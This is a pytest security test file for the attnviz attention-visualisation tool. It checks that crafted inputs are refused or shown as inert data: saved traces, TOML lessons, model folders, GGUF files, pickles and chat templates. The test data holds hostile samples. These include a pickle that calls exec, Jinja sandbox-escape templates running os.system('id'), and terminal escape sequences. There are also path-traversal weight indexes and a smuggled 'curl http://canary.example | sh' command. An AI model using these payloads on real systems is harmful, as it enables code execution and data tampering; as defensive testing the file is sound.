"""Every kind of file that attnviz reads, with a canary in it: opened as data, it does nothing.

A canary is a Python file, a pickle, a name on a hub, a path outside, an escape sequence or a line
for a shell. What Python does is watched by its own audit; torch, tokenizers and safetensors are
compiled, and are watched by what is refused.
"""

from __future__ import annotations

import json
import pickle
import re
import shutil
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
from safetensors.torch import load_file, save_file

from attnviz import trace
from attnviz.traces.models.model_names import find_model_path
from attnviz.traces.trained import chat_template
from attnviz.traces.trained.refusals import quiet_transformers
from tests import LONGEST
from tests.conftest import ROOT, Attnviz, unchecked
from tests.file_kinds import FILE_KINDS, OWN_FILES, opening_calls
from tests.gguf.files import write_model
from tests.gguf.test_gguf import FACTS, SIZES
from tests.small_transformers import KINDS, save

Plant = Callable[
    [Path], list[str]
]  # writes files, given a transformer's folder; returns the command
TEXT = "it was too tired"
HUB = "canary-owner/canary"
UNSAFE_CHARACTERS = ("\x1b", "\x07", "\u202e", "\x9b")
ESCAPE = "a\x1b]52;c;Q\x07\u202eb\x9b2J"
WRITTEN_ESCAPE = r"a\u001b]52;c;Q\u0007\u202eb\u009b2J"  # as TOML and JSON write it
SHELL = "attnviz run 'I am'; curl http://canary.example | sh"
PYTHON = "open({!r}, 'w').close()\nfrom transformers import BertConfig as C, BertModel as M\n"
OPPOSITES = (("hot", "cold"), ("big", "old"))
OUTPUTS = ("x.html", "x.md", "x.json")


@dataclass
class Watch:
    """An audit hook that records connections, processes and files that are forbidden."""

    forbidden: Path | None = None
    events: list[str] = field(default_factory=list)

    def __call__(self, event: str, details: tuple[Any, ...]) -> None:
        if self.forbidden is None:
            return
        if event == "subprocess.Popen" and [*details[1]][-1:] == [chat_template.__file__]:
            return  # attnviz's own program, which fills in chat templates
        if event in ("socket.connect", "socket.getaddrinfo", "subprocess.Popen", "os.system"):
            self.events.append(f"{event} {details[:2]}")
            raise PermissionError(event)  # so that no test reaches the network
        if event == "open" and isinstance(details[0], str) and "forbidden" in details[0]:
            self.events.append(f"{event} {details[0]}")


WATCH = Watch()
sys.addaudithook(WATCH)


@pytest.fixture
def watch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Watch]:
    """The watch, in a working folder beside a folder that nothing may touch."""
    (tmp_path / "here").mkdir()
    (tmp_path / "forbidden").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    monkeypatch.setenv("TIKTOKEN_CACHE_DIR", str(tmp_path))
    for name in ("HF_HUB_OFFLINE", "TRANSFORMERS_OFFLINE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr("huggingface_hub.constants.HF_HUB_OFFLINE", False)
    yield WATCH
    WATCH.forbidden = None
    WATCH.events.clear()


def forbidden_folder() -> Path:
    return Path("../forbidden").resolve()


def write_outside(name: str, text: str) -> str:
    """Write a readable file into the forbidden folder; returns its path."""
    (forbidden_folder() / name).write_text(text, encoding="utf-8")
    return str(forbidden_folder() / name)


def write_code(place: Path) -> Path:
    """Write code that leaves a file in the forbidden folder when it runs."""
    place.write_text(PYTHON.format(str(forbidden_folder() / "ran")), encoding="utf-8")
    return place


class PickledCode:
    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (f"open({str(forbidden_folder() / 'ran')!r}, 'w').close()",)


def write_file(name: str, text: str) -> str:
    Path(name).write_text(text, encoding="utf-8")
    return name


def change_json(path: Path, **changes: Any) -> Path:
    path.write_text(json.dumps(json.loads(path.read_text(encoding="utf-8")) | changes))
    return path


def folder_with_code(transformer: Path) -> str:
    """Copy a transformer into a folder with code of its own; returns its name."""
    shutil.copytree(transformer, "model")
    write_code(Path("model", "code.py"))
    auto_map = {"AutoConfig": "code.C", "AutoModel": "code.M", "AutoTokenizer": "code.C"}
    change_json(Path("model", "config.json"), auto_map=auto_map, model_type="canary")
    change_json(Path("model", "tokenizer_config.json"), auto_map=auto_map, tokenizer_class="Canary")
    return "model"


def save_trace(transformer: Path, suffix: str, **settings: Any) -> str:
    """Save a trace of a transformer, whose settings then name another."""
    trace(TEXT, model=str(transformer)).save(f"made{suffix}")
    return change_settings(f"made{suffix}", **settings)


def change_settings(file: str, **settings: Any) -> str:
    if file.endswith(".npz"):
        arrays = dict(np.load(file))
        stored_trace = json.loads(str(arrays["trace"]))
        stored_trace["origin"]["settings"].update(settings)
        np.savez(file, **arrays | {"trace": np.array(json.dumps(stored_trace))})
        return file
    document = json.loads(Path(file).read_text(encoding="utf-8"))
    document["trace"]["origin"]["settings"].update(settings)
    return write_file(file, json.dumps(document))


def save_random_trace(**settings: Any) -> str:
    trace("I am").save("drawn.json")
    return change_settings("drawn.json", **settings)


def save_trusting_trace(transformer: Path, suffix: str) -> str:
    return save_trace(
        transformer, suffix, model=folder_with_code(transformer), trust_remote_code=True
    )


def save_hostile_trace(_: Path) -> list[str]:
    """A saved trace whose text, words, versions and command come from an attacker."""
    trace("I am").save("drawn.json")
    document = json.loads(Path("drawn.json").read_text(encoding="utf-8"))
    document["attnviz"] |= {"command": SHELL, "version": ESCAPE, "device": ESCAPE}
    document["attnviz"]["versions"]["torch"] = ESCAPE
    document["trace"]["tokens"] |= {"text": ESCAPE, "words": [ESCAPE, f"<script>{ESCAPE}"]}
    return ["run", "--trace", write_file("t.json", json.dumps(document))]


def save_pickled_array(name: str) -> str:
    arrays = np.array([PickledCode()], dtype=object)
    np.savez(name, scores=arrays, trace=arrays) if name.endswith("z") else np.save(name, arrays)
    return name


def save_pickle(name: str) -> str:
    Path(name).write_bytes(pickle.dumps(PickledCode()))
    return name


def save_named_tensors(name: str) -> str:
    metadata = {"file": str(forbidden_folder() / "x.npy"), "axes.scores": ESCAPE, "model": HUB}
    save_file({"scores": torch.eye(2)}, name, metadata=metadata)
    return name


TRUST = "trust_remote_code = true"
LESSON = 'title = "{0}"\nsource = "{0}"\ntext = "I am"\n{1}\n'
GRAMMAR = """about = "{0}"\nasks = "verb"\nanswers = "noun"\nwatch = "the key is"\n{1}
[words]\nnoun = ["key", "door", "cat", "dog", "fox", "cow"]\nverb = ["is", "was"]
[[sentences]]\npatterns = ["the {{noun}} {{verb}}"]\n"""
BY_HAND = """about = "{0}"\ndimensions = ["x"]\n[words]\na = {{ x = 1 }}\n{1}
[[heads]]\ndoes = "{0}"\nasks = ["x"]\nhands = ["x"]\nquery.x.x = 1\nkey.x.x = 1\nvalue.x.x = 1
out.x.x = 1\n"""
QUIZ = 'title = "{0}"\n[[texts]]\ntext = "I am {0}"\ntokenizer = "spaces"\n{1}\n'
LEARN = ["--steps=1", "--batch=2", "-q"]


def lesson_canary(*settings: str) -> Plant:
    text = LESSON.format(WRITTEN_ESCAPE, "\n".join(["[settings]", *settings]))
    return lambda _: ["example", "show", write_file("lesson.toml", text)]


def copy_saved_model(file: str = "", **changes: Any) -> str:
    shutil.copytree(find_model_path("reverse"), "saved")
    if file:
        change_json(Path("saved", file), **changes)
    return "saved"


def training_canary(**arguments: str) -> Plant:
    """The folder of a training, which names another task to go on with."""

    def write_canary(_: Path) -> list[str]:
        from attnviz.learning import progress
        from attnviz.learning.choices import Choices
        from attnviz.learning.lookup import task_of
        from attnviz.learning.training import Training

        with unchecked():
            learning = Training(task_of("reverse"), choices=Choices(steps=1, batch=2))
            list(learning)
        progress.write_progress(Path("saved"), learning.progress())
        change_json(Path("saved", "training.json"), asked=arguments)
        write_code(Path("saved", "task.py"))
        write_outside("lines.txt", "a b\nb c\n")
        write_outside("g.toml", GRAMMAR.format("x", ""))
        return ["learn", "--from", "saved", "--steps=2"]

    return write_canary


def transformer_canary(*names: str) -> Callable[[Callable[[Path], object]], Plant]:
    """The folder of a transformer without the named files, into which `plant` puts others."""

    def add_plant(plant: Callable[[Path], object]) -> Plant:
        def write_canary(transformer: Path) -> list[str]:
            shutil.copytree(transformer, "model")
            plant(Path("model"))
            for name in names:
                Path("model", name).unlink()
            return ["inspect", TEXT, "--model", "model"]

        return write_canary

    return add_plant


def write_outside_index(model: Path, path: str = "../../forbidden/x.safetensors") -> None:
    """Write readable weights outside, and an index in the folder that names them."""
    weights = load_file(model / "model.safetensors")
    save_file(weights, forbidden_folder() / "x.safetensors", metadata={"format": "pt"})
    index = {"metadata": {}, "weight_map": dict.fromkeys(weights, path)}
    write_file(str(model / "model.safetensors.index.json"), json.dumps(index))


def name_hub(model: Path) -> None:
    change_json(model / "config.json", _name_or_path=HUB, transformers_version=ESCAPE)
    change_json(model / "tokenizer_config.json", name_or_path=HUB)


def name_hub_in_adapter(model: Path) -> None:
    adapter = {"base_model_name_or_path": HUB, "peft_type": "LORA"}
    write_file(str(model / "adapter_config.json"), json.dumps(adapter))


def choose_outside_index(model: Path) -> None:
    write_outside_index(model)
    (model / "model.safetensors.index.json").rename(model / "other.safetensors.index.json")
    change_json(model / "config.json", transformers_weights="other.safetensors.index.json")


def name_outside_vocabulary(model: Path) -> None:
    words = write_outside("vocab.txt", "[UNK]\nit\nwas\ntoo\ntired\n")
    files = {"vocab_file": words, "tokenizer_file": words, "name_or_path": HUB}
    change_json(model / "tokenizer_config.json", **files)


def chat_canary(template: str) -> Plant:
    def write_canary(transformer: Path) -> list[str]:
        shutil.copytree(transformer, "model")
        Path("model", "chat_template.jinja").write_text(template, encoding="utf-8")
        return ["inspect", TEXT, "--model", "model", "--chat"]

    return write_canary


def generation_canary(_: Path) -> list[str]:
    """A model that generates by code of its own, and code of a hub."""
    model = save(KINDS["gpt2"], Path("model"))
    Path(model, "custom_generate").mkdir()
    write_code(Path(model, "custom_generate", "generate.py"))
    change_json(model / "generation_config.json", custom_generate=HUB)
    return ["inspect", TEXT, "--model", "model", "--generate", "1"]


def gguf_canary(template: str, *options: str) -> Plant:
    """A GGUF file with escapes, names on a hub and a template."""

    def write_canary(_: Path) -> list[str]:
        with quiet_transformers():
            from transformers import LlamaConfig, LlamaForCausalLM

            model = LlamaForCausalLM(LlamaConfig(**SIZES))
        facts = {"name": ESCAPE, "source_url": HUB, "chat_template": template}
        write_model(Path("m.gguf"), model, "llama", FACTS | facts)
        return ["inspect", TEXT, "--model", "m.gguf", *options]

    return write_canary


def checkpoints_canary(transformer: Path) -> list[str]:
    """Two checkpoints whose trainer names a model outside, and says what escapes."""
    state = {"best_model_checkpoint": str(forbidden_folder()), "log_history": [ESCAPE]}
    for step in (1, 2):
        shutil.copytree(transformer, f"c-{step}")
        state_text = json.dumps(state | {"global_step": step})
        write_file(f"c-{step}/trainer_state.json", state_text)
    return ["compare", TEXT, "--checkpoints", "c-1", "c-2"]


def pairs_canary(model: Path) -> list[str]:
    starts = [(f"{ESCAPE} {a} and {b} , it was", a, b) for a, b in OPPOSITES]
    lines = "\n".join(f"{start} a\t{start} b\tit\t{a}\t{b}" for start, a, b in starts)
    return ["pairs", write_file("pairs.tsv", lines), "--model", str(model)]


def put_escapes_into_tokens(model: Path) -> None:
    path = model / "tokenizer.json"
    path.write_text(path.read_text(encoding="utf-8").replace('"[CLS]"', json.dumps(ESCAPE)))


def embeddings_canary(transformer: Path) -> list[str]:
    shutil.copytree(transformer, "model")
    write_outside_index(Path("model"))
    Path("model", "model.safetensors").unlink()
    return ["run", TEXT, "-t", "words", "--embeddings", "model"]


# The exit status (0: shown, 2: refused), and what writes the files and returns the command.
CANARIES: dict[str, tuple[int, Plant]] = {
    "trace .json: code, by effect": (2, lambda model: [
        "inspect", "--by=effect", "--trace", save_trusting_trace(model, ".json")]),
    "trace .npz: code, by gradient": (2, lambda model: [
        "inspect", "--weigh=gradient", "--trace", save_trusting_trace(model, ".npz")]),
    "trace: code, beside a sentence": (2, lambda model: [
        "compare", "it was too large", "--trace", save_trusting_trace(model, ".json")]),
    "trace: code, in two precisions": (2, lambda model: [
        "compare", "--by=dtype", "--trace", save_trusting_trace(model, ".json")]),
    "trace: code, of nothing trained": (2, lambda model: [
        "compare", "--trace",
        save_random_trace(model=folder_with_code(model), trust_remote_code=True)]),
    "trace: hub": (2, lambda model: [
        "inspect", "--by=effect", "--trace", save_trace(model, ".json", model=HUB)]),
    "trace: hub's vectors": (2, lambda _: [
        "compare", "--trace", save_random_trace(embeddings=HUB)]),
    "trace: tokenizer": (2, lambda _: [
        "compare", "--trace", save_random_trace(tokenizer="o200k_base")]),
    "trace: vectors outside": (2, lambda _: [
        "compare", "--trace",
        save_random_trace(embeddings=write_outside("x.txt", "I 1 2\nam 2 1\n"))]),
    "trace: escapes and a shell": (0, save_hostile_trace),
    "trace .npz: pickle": (2, lambda _: ["run", "--trace", save_pickled_array("t.npz")]),
    "given .toml: escapes": (0, lambda _: ["run", "--given", write_file(
        "g.toml", f'tokens = ["{WRITTEN_ESCAPE}", "b"]\nembeddings = [[1, 2], [3, 4]]')]),
    "given .toml: names": (2, lambda _: ["run", "--given", write_file(
        "g.toml", f'scores = [[1]]\nmodel = "{HUB}"')]),
    "given .json: escapes": (0, lambda _: ["run", "--given", write_file(
        "g.json", f'{{"tokens": ["{WRITTEN_ESCAPE}", "b"], "embeddings": [[1, 2], [3, 4]]}}')]),
    "given .npz: pickle": (2, lambda _: ["run", "--given", save_pickled_array("g.npz")]),
    "given .npz: pickle of another name": (2, lambda _: ["run", "--given", save_pickle("g.npz")]),
    "given .safetensors: pickle": (2, lambda _: ["run", "--given", save_pickle("g.safetensors")]),
    "given .safetensors: names": (2, lambda _: [
        "run", "--given", save_named_tensors("g.safetensors")]),
    "embeddings .npy: pickle": (2, lambda _: [
        "run", "I", "--embeddings", save_pickled_array("e.npy")]),
    "embeddings .npz: pickle": (2, lambda _: [
        "run", "I", "--embeddings", save_pickled_array("e.npz")]),
    "embeddings .bin: pickle": (2, lambda _: ["run", "I", "--embeddings", save_pickle("e.bin")]),
    "embeddings .txt: escapes": (0, lambda _: [
        *("run", ESCAPE, "--tokenizer=spaces", "--embeddings"),
        write_file("e.txt", f"{ESCAPE} 1 2 3\n")]),
    "embeddings of a folder: outside": (2, embeddings_canary),
    "example: escapes": (0, lesson_canary("heads = 1")),
    "example: code": (2, lambda model: [
        *lesson_canary(f'model = "{folder_with_code(model)}"', TRUST)(model)]),
    "example: hub": (2, lesson_canary(f'model = "{HUB}"')),
    "example: vectors outside": (2, lambda model: [
        *lesson_canary(
            f'embeddings = "{write_outside("x.txt", "I 1 2")}"', 'tokenizer = "words"')(model)]),
    "example: hub's vectors": (2, lesson_canary(f'embeddings = "{HUB}"')),
    "example: tokenizer": (2, lesson_canary('tokenizer = "o200k_base"')),
    "example: code, expected": (2, lambda model: ["example", "check", write_file(
        "lesson.toml", LESSON.format("x", f"[[expect]]\nstep = 'softmax'\nshape = [1]\n"
                                     f"with = {{ model = '{folder_with_code(model)}', "
                                     f"{TRUST} }}"))]),
    "segments: escapes": (0, lambda _: ["inspect", "a b", "--segments", write_file(
        "s.toml", f'"{WRITTEN_ESCAPE}" = "a"')]),
    "segments: no text": (2, lambda _: ["inspect", "a b", "--segments", write_file(
        "s.toml", f"a = {{ model = '{HUB}' }}")]),
    "grammar: escapes": (0, lambda _: [
        "learn", write_file("g.toml", GRAMMAR.format(WRITTEN_ESCAPE, "")), *LEARN]),
    "grammar: code": (2, lambda _: ["learn", write_file(
        "g.toml", GRAMMAR.format("x", f'task = "{write_code(Path("task.py"))}"')), *LEARN]),
    "grammar: a Python file": (2, lambda _: ["learn", str(write_code(Path("task.py"))), *LEARN]),
    "lines: escapes": (0, lambda _: ["learn", "--file", write_file(
        "lines.txt", "\n".join(f"{ESCAPE} {each}" for each in "abcdefghijkl")), *LEARN]),
    "by hand: escapes": (0, lambda _: [
        "run", "a a", "--model", write_file("m.toml", BY_HAND.format(WRITTEN_ESCAPE, ""))]),
    "by hand: names": (2, lambda _: ["run", "a", "--model", write_file(
        "m.toml", BY_HAND.format("x", f'[settings]\nmodel = "{HUB}"'))]),
    "saved model: escapes": (0, lambda _: ["run", "a b", "--model", copy_saved_model(
        "config.json", name=ESCAPE, about=ESCAPE)]),
    "saved model: hub": (2, lambda _: ["run", "a b", "--model", copy_saved_model(
        "config.json", settings={"model": HUB, "trust_remote_code": True})]),
    "saved model: tokenizer": (2, lambda _: ["run", "a b", "--model", copy_saved_model(
        "vocabulary.json", tokenizer="o200k_base")]),
    "saved model: task": (2, lambda _: ["heads", "--model", copy_saved_model(
        "config.json", facts={"task": str(write_code(Path("task.py")))})]),
    "saved model: pickle": (2, lambda _: ["run", "a b", "--model", str(
        Path(save_pickle(f"{copy_saved_model()}/model.safetensors")).parent)]),
    "goes on: code": (2, training_canary(task="saved/task.py")),
    "goes on: grammar outside": (2, training_canary(task="../forbidden/g.toml")),
    "goes on: lines outside": (2, training_canary(
        file="../forbidden/lines.txt", tokenizer="words")),
    "transformer: code": (2, lambda model: ["inspect", TEXT, "--model", folder_with_code(model)]),
    "transformer's weights: pickle": (2, transformer_canary("model.safetensors")(
        lambda model: save_pickle(str(model / "pytorch_model.bin")))),
    "transformer's index: outside": (2, transformer_canary("model.safetensors")(
        write_outside_index)),
    "transformer's index: elsewhere": (2, transformer_canary("model.safetensors")(
        lambda model: write_outside_index(model, str(forbidden_folder() / "x.safetensors")))),
    "transformer: hub": (0, transformer_canary()(name_hub)),
    "transformer's config: hub": (2, transformer_canary()(lambda model: change_json(
        model / "config.json", model_type="detr", architectures=["DetrForObjectDetection"],
        backbone=HUB, use_timm_backbone=False))),
    "transformer's config: a part of a hub": (2, transformer_canary()(lambda model: change_json(
        model / "config.json", text_config={"backbone": HUB}))),
    "transformer's config: kernels of a hub": (0, transformer_canary()(lambda model: change_json(
        model / "config.json", attn_implementation=HUB))),
    "transformer's config: experts of a hub": (2, transformer_canary()(lambda model: change_json(
        model / "config.json", experts_implementation=HUB))),
    "transformer's config: weights outside": (2, transformer_canary()(choose_outside_index)),
    "transformer's config: a file outside": (2, transformer_canary()(lambda model: change_json(
        model / "config.json", transformers_weights="../forbidden/x.safetensors"))),
    "transformer's adapter: hub": (2, transformer_canary()(name_hub_in_adapter)),
    "transformer's tokenizer: outside": (0, transformer_canary()(name_outside_vocabulary)),
    "transformer's generation: code": (0, generation_canary),
    "chat template: code": (2, chat_canary("{{ cycler.__init__.__globals__.os.system('id') }}")),
    "chat template: a file outside": (2, chat_canary("{% include '../forbidden/x' %}")),
    "chat template: escapes": (0, chat_canary(f"{{{{ messages[0].content }}}} {ESCAPE}")),
    "gguf: escapes": (0, gguf_canary(ESCAPE)),
    "gguf: code": (2, gguf_canary("{{ cycler.__init__.__globals__.os.system('id') }}", "--chat")),
    "checkpoints: outside": (0, checkpoints_canary),
    "pairs: escapes": (0, pairs_canary),
    "survey: escapes": (0, lambda model: ["survey", "--file", write_file(
        "lines.txt", f"{ESCAPE} it was hot\nit was cold\n"), "--model", str(model)]),
    "quiz: escapes": (0, lambda _: ["quiz", write_file("q.toml", QUIZ.format(WRITTEN_ESCAPE, ""))]),
    "quiz: hub": (2, lambda _: ["quiz", write_file(
        "q.toml", QUIZ.format("x", f'model = "{HUB}"'))]),
    "quiz: vectors outside": (2, lambda _: ["quiz", write_file("q.toml", QUIZ.format(
        "x", f"settings = {{ embeddings = '{write_outside('x.txt', 'I 1 2')}' }}"))]),
    "transformer's tokenizer: escapes": (0, transformer_canary()(put_escapes_into_tokens)),
    "text: escapes": (0, lambda _: [
        "run", "--file", write_file("story.txt", f"{ESCAPE} $(id) `id`")]),
}  # fmt: skip


@pytest.mark.parametrize("name", CANARIES)
def test_a_file_is_data(
    name: str,
    watch: Watch,
    attnviz: Attnviz,
    small_transformer: Callable[[str], Path],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    status, plant = CANARIES[name]
    command = plant(small_transformer("bert"))
    files = {*Path().rglob("*")}
    outputs = [] if command[1] == "check" else [each for file in OUTPUTS for each in ("-o", file)]
    with monkeypatch.context() as patch:
        patch.setattr(socket.socket, "connect", lambda *_: watch.events.append("connect"))
        watch.forbidden = forbidden_folder()
        first_result = attnviz(*command)
        result = attnviz(*command, *outputs) if status == 0 else first_result
        watch.forbidden = None

    assert watch.events == []
    assert (first_result.status, result.status) == (status, status), first_result.err + result.err
    assert not (forbidden_folder() / "ran").exists()
    new_files = [each for each in {*Path().rglob("*")} - files if each.is_file()]
    assert {each.name for each in new_files} == ({*OUTPUTS} if status == 0 else set())
    texts = [first_result.out, first_result.err, result.out, result.err]
    texts += [each.read_bytes().decode("utf-8") for each in new_files]
    assert not [each for text in texts for each in UNSAFE_CHARACTERS if each in text]
    assert not [text for text in texts if "canary.example" in text]
    if status == 2:
        assert [line[:7] for line in first_result.err.splitlines()] == ["error: ", " hint: "]


def test_every_kind_of_file_has_a_canary_and_every_canary_a_kind() -> None:
    kinds = {canary for kind in FILE_KINDS for canary in kind.canaries}
    assert {name.partition(":")[0] for name in CANARIES} == kinds


def test_every_module_that_opens_files_is_in_the_table_of_their_kinds() -> None:
    modules = {
        ".".join(path.with_suffix("").relative_to(ROOT / "attnviz").parts)
        for path in (ROOT / "attnviz").rglob("*.py")
        if opening_calls(path.read_text(encoding="utf-8"))
    }
    assert modules == {each for kind in FILE_KINDS for each in kind.modules} | {*OWN_FILES}


@pytest.mark.parametrize(
    "source",
    ["Path(x).open()", "open(x)", "json.load(open(x))", "files.read_content(x)", "np.load(x)"],
)
def test_a_new_reader_is_noticed(source: str) -> None:
    assert opening_calls(f"def read(x):\n    return {source}\n")
    assert not opening_calls("def reopen(x):\n    return x.closed\n")


def test_the_page_on_security_lists_every_kind_of_file() -> None:
    page = (ROOT / "SECURITY.md").read_text(encoding="utf-8")
    listed = page.partition("## Every kind of file")[2].partition("\n## ")[0]
    assert re.findall(r"^- (.+)$", listed, re.MULTILINE) == [kind.name for kind in FILE_KINDS]


def connect() -> None:
    with socket.socket() as connection:
        connection.connect(("127.0.0.1", 9))


@pytest.mark.parametrize(
    ("action", "expected_event"),
    [
        (lambda: socket.create_connection(("127.0.0.1", 9), 1), "socket.getaddrinfo"),
        (connect, "socket.connect"),
        (lambda: subprocess.run(["true"], check=True, timeout=LONGEST), "subprocess.Popen"),
        (lambda: (forbidden_folder() / "x").write_text(""), "open"),
        (lambda: pickle.loads(pickle.dumps(PickledCode())), "open"),
    ],
)
def test_a_canary_is_noticed(
    action: Callable[[], object], expected_event: str, watch: Watch
) -> None:
    watch.forbidden = forbidden_folder()
    with suppress(PermissionError):
        action()
    assert watch.events[0].startswith(expected_event)


def test_the_code_of_the_canaries_leaves_a_file_when_it_is_run(watch: Watch) -> None:
    exec(write_code(Path("task.py")).read_text(encoding="utf-8"), {})

    assert (forbidden_folder() / "ran").exists()
